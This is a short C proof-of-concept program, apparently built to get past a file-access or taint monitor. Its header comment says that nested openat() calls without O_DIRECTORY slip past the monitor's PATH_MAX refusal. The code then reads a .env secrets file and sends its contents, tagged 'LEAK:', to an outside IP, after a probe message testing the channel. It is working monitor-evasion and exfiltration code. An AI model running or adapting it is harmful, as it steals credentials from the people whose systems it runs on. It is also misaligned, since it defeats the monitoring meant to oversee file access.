// deepread IP N NAME: sends PRE, then opens NAME N times level by level with
// openat(dirfd, NAME, O_RDONLY) (no O_DIRECTORY: kernel-decided, unlike chdir and
// O_DIRECTORY opens, which the monitor refuses past PATH_MAX), then .env; sends it.
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include "../send.c"
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0); const char*ip=argv[1]; int n=atoi(argv[2]);
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  int d=AT_FDCWD; for(int i=0;i<n;i++){ int e=openat(d,argv[3],O_RDONLY); if(e<0){printf("level %d: %s\n",i,strerror(errno));return 1;} if(d>=0) close(d); d=e; }
  int fd=openat(d,".env",O_RDONLY); printf("openat(.env) = %d %s\n",fd,fd<0?strerror(errno):"");
  if(fd<0) return 1; char buf[256]={0}; ssize_t k=read(fd,buf,255); printf("READ %zd bytes: %.40s\n",k,buf);
  char m[300]; int l=snprintf(m,sizeof m,"LEAK:%s",buf); printf("POST send: %d\n",send_buf(ip,m,l)); return 0; }
